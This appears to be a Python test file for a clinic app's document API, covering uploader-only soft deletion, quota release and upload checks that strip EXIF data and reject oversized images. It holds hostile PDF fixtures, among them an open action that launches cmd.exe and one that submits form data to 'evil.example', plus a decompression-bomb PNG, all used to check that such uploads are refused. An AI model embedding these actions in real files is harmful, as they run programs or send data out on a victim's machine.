"""Removing documents (DELETE /api/documents/{id}): the uploader only, a soft delete kept for
the audit trail with the bytes erased and the quota freed; and what an upload may be: no PDF
that runs script or launches anything, no image beyond IMAGE_MAX_PIXELS, no EXIF kept."""

from __future__ import annotations

import io

import pytest
from PIL import Image, ImageCms

from clinic360.extensions import db
from clinic360.models import Document, Role
from clinic360.storage import document_path
from tests.health_data import audit_rows, make_pdf, pdf_bytes, upload


def _row(app, document_id: int) -> Document:
    with app.app_context():
        row = db.session.get(Document, document_id)
        db.session.expunge_all()
        return row


def test_a_patient_removes_their_own_upload(care, app, upload_dir):
    _, patient_user, doc, patient, _ = care
    kept = upload(patient, patient_user.id, pdf_bytes(), name="kept.pdf").get_json()
    gone = upload(patient, patient_user.id, pdf_bytes(), name="gone.pdf").get_json()
    with app.app_context():
        path = document_path(_row(app, gone["id"]).storage_key)
        kept_path = document_path(_row(app, kept["id"]).storage_key)
    assert path.exists()

    response = patient.delete(f"/api/documents/{gone['id']}")
    assert response.status_code == 204 and response.data == b""

    row = _row(app, gone["id"])  # kept for the audit trail, marked removed
    assert row.deleted_at is not None and row.deleted_by_id == patient_user.id
    assert not path.exists() and not list(upload_dir.rglob("*.tmp"))  # the bytes are erased
    assert kept_path.exists()
    for client in (patient, doc):  # gone from lists and downloads, for everyone
        listed = client.get(f"/api/records/{patient_user.id}/documents").get_json()
        assert [d["id"] for d in listed["items"]] == [kept["id"]] and listed["total"] == 1
        assert client.get(f"/api/documents/{gone['id']}").status_code == 404
    assert patient.delete(f"/api/documents/{gone['id']}").status_code == 404
    assert (patient_user.id, "document.delete", "document", gone["id"]) in audit_rows(app)
    export = patient.get("/api/export").get_json()
    assert [d["id"] for d in export["documents"]] == [kept["id"]]


def test_removing_frees_the_quota(care, app, monkeypatch):
    _, patient_user, _, patient, _ = care
    monkeypatch.setitem(app.config, "DOCUMENT_QUOTA_BYTES", 2000)
    first = upload(patient, patient_user.id, pdf_bytes()).get_json()
    full = upload(patient, patient_user.id, pdf_bytes())
    assert full.status_code == 413 and full.get_json()["error"]["code"] == "quota_exceeded"
    assert patient.delete(f"/api/documents/{first['id']}").status_code == 204
    assert upload(patient, patient_user.id, pdf_bytes()).status_code == 201


def test_only_the_uploader_removes_a_document(care, app, make_client, make_user):
    _, patient_user, doc, patient, _ = care
    by_patient = upload(patient, patient_user.id, pdf_bytes()).get_json()
    by_doctor = upload(doc, patient_user.id, pdf_bytes()).get_json()
    admin = make_client()
    admin.login_as(make_user(Role.ADMIN))
    stranger = make_client()
    stranger.login_as(make_user())

    assert patient.delete(f"/api/documents/{by_doctor['id']}").status_code == 404
    assert doc.delete(f"/api/documents/{by_patient['id']}").status_code == 404
    assert stranger.delete(f"/api/documents/{by_patient['id']}").status_code == 404
    assert admin.delete(f"/api/documents/{by_patient['id']}").status_code == 403
    assert make_client().delete(f"/api/documents/{by_patient['id']}").status_code == 401
    for document in (by_patient, by_doctor):
        assert _row(app, document["id"]).deleted_at is None

    assert doc.delete(f"/api/documents/{by_doctor['id']}").status_code == 204
    assert patient.delete(f"/api/documents/{by_patient['id']}").status_code == 204
    assert patient.get(f"/api/records/{patient_user.id}/documents").get_json()["items"] == []


# --- What an upload may be ------------------------------------------------------------------

SCRIPTED = {
    "open action JavaScript": make_pdf(
        b"/OpenAction 4 0 R", b"<</S/JavaScript/JS(app.alert('hi'))>>"
    ),
    "named JavaScript": make_pdf(
        b"/Names<</JavaScript 4 0 R>>", b"<</Names[(x) 5 0 R]>>", b"<</S/JavaScript/JS 6 0 R>>"
    ),
    "page additional action": make_pdf(b"/AA<</O<</S/JavaScript/JS(this.print())>>>>"),
    "launch action": make_pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "XFA form": make_pdf(b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"<</Length 0>>stream\n\nendstream"),
    "rich media": make_pdf(b"/Names<</X 4 0 R>>", b"<</Subtype/RichMedia/RichMediaContent<<>>>>"),
    "submit on open": make_pdf(b"/OpenAction<</S/SubmitForm/F(https://evil.example/c)>>"),
    "import on close": make_pdf(b"/AA<</WC<</S/ImportData/F(data.fdf)>>>>"),
    "submit chained": make_pdf(
        b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>", b"<</S/SubmitForm/F(x)>>"
    ),
}


@pytest.mark.parametrize("name", sorted(SCRIPTED))
def test_pdfs_that_run_script_or_launch_are_refused(care, name):
    _, patient_user, _, patient, _ = care
    response = upload(patient, patient_user.id, SCRIPTED[name])
    assert response.status_code == 422, response.get_json()
    assert "run scripts" in response.get_json()["error"]["fields"]["file"][0]


@pytest.mark.parametrize(
    "data",
    [b"%PDF-1.7\nnothing a reader can follow", b"%PDF-" + bytes(range(256)) * 8],
)
def test_unreadable_pdfs_are_refused(care, data):
    _, patient_user, _, patient, _ = care
    response = upload(patient, patient_user.id, data)
    assert response.status_code == 422
    assert "cannot be read" in response.get_json()["error"]["fields"]["file"][0]


def test_a_pdf_with_harmless_actions_is_accepted(care):
    _, patient_user, _, patient, _ = care
    go_to_page = make_pdf(b"/OpenAction[3 0 R/Fit]")
    assert upload(patient, patient_user.id, go_to_page).status_code == 201


def _image(fmt: str, size=(64, 48), **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 120, 40)).save(out, format=fmt, **save)
    return out.getvalue()


def test_images_beyond_the_pixel_limit_are_refused(care, app, monkeypatch):
    _, patient_user, _, patient, _ = care
    monkeypatch.setitem(app.config, "IMAGE_MAX_PIXELS", 64 * 48)
    fits = upload(patient, patient_user.id, _image("PNG"), "scan.png", "image/png")
    assert fits.status_code == 201
    big = upload(patient, patient_user.id, _image("PNG", (65, 48)), "scan.png", "image/png")
    assert big.status_code == 422
    assert "pixels" in big.get_json()["error"]["fields"]["file"][0]


def test_a_decompression_bomb_is_refused_before_decoding(care):
    _, patient_user, _, patient, _ = care
    out = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(out, format="PNG")  # 400 Mpx, a few kB on the wire
    response = upload(patient, patient_user.id, out.getvalue(), "bomb.png", "image/png")
    assert response.status_code == 422
    assert "pixels" in response.get_json()["error"]["fields"]["file"][0]


def _exif_with_gps() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90 degrees clockwise to show
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (48.0, 51.0, 29.0)
    return exif


@pytest.mark.parametrize(("fmt", "mime"), [("JPEG", "image/jpeg"), ("PNG", "image/png")])
def test_exif_and_gps_are_stripped_from_images(care, fmt, mime):
    _, patient_user, _, patient, _ = care
    original = _image(fmt, exif=_exif_with_gps())
    with Image.open(io.BytesIO(original)) as sent:
        assert sent.getexif().get_ifd(0x8825)  # the upload does carry a position
    document = upload(patient, patient_user.id, original, "photo", mime).get_json()
    stored = patient.get(f"/api/documents/{document['id']}").data
    assert document["size"] == len(stored)
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == fmt
        assert dict(image.getexif()) == {} and "exif" not in image.info
        assert image.size == (48, 64)  # turned upright as the orientation said
        assert image.convert("RGB").getpixel((10, 10)) == pytest.approx((200, 120, 40), abs=4)
    assert b"PhoneMaker" not in stored


def test_a_jpeg_comment_does_not_survive_cleaning(care):
    _, patient_user, _, patient, _ = care
    with_profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    original = _image("JPEG", comment=b"Patient Jane Roe, DOB 1980", icc_profile=with_profile)
    with Image.open(io.BytesIO(original)) as sent:
        assert sent.info["comment"] == b"Patient Jane Roe, DOB 1980"
    document = upload(patient, patient_user.id, original, "photo.jpg", "image/jpeg").get_json()
    stored = patient.get(f"/api/documents/{document['id']}").data
    assert b"Jane Roe" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert "comment" not in image.info
        assert image.info.get("icc_profile") == with_profile  # the colours are kept
